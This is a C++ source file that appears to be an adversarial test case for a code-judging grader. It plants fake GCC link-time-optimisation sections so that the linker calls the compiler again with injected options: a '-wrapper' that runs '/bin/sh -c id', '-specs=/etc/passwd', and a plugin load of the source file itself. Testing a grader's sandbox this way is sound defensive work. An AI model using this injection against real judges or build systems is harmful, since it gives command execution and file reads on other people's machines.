// own_91_linker_compiles.cpp: looks to the linker like code that is not compiled yet: it starts the compiler again, with options of the source's own
// Expected: CE/AC/WA/RE. For our own grader's acceptance run only, never outside the sandbox.
asm(".section .gnu.lto_.opts,\"e\",@progbits\n"
    ".asciz \"'-fplugin=/program/main.cpp' '-wrapper' '/bin/sh,-c,id' '-specs=/etc/passwd' '-B/program/' '-dumpdir' '/program/' '-flto=1000'\"\n"
    ".section .gnu.lto_.lto.1,\"e\",@progbits\n.short 12, 0, 0, 0\n"
    ".section .gnu.lto_.decls.1,\"e\",@progbits\n.incbin \"/proc/self/exe\", 0, 4096\n"
    ".section .gnu.lto_.symtab.1,\"e\",@progbits\n.asciz \"main\"\n.fill 64, 1, 255\n"
    ".section .gnu.offload_lto_.opts,\"e\",@progbits\n.asciz \"'-foffload=/program/main.cpp'\"\n"
    ".text\n.comm __gnu_lto_v1,1,1\n.comm __gnu_lto_slim,1,1");
#include <cstdio>
int main() { puts("3"); }
